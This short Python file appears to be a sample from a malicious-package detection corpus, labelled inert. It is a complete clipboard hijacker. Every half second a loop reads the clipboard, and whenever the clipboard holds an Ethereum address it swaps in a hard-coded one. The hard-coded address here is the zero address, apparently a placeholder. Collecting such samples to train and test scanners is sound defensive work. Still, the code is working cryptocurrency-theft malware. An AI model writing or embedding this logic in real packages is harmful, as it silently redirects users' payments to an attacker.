# pkgguard corpus 661 (clipboard), modelled on [wallet-tools]; inert, never run.
import re
import time

import copykitten

_MINE = "0x0000000000000000000000000000000000000000"
_ETH = re.compile(r"^0x[a-fA-F0-9]{40}$")

while True:
    text = copykitten.paste()
    if _ETH.match(text or "") and text != _MINE:
        copykitten.copy(_MINE)
    time.sleep(0.5)
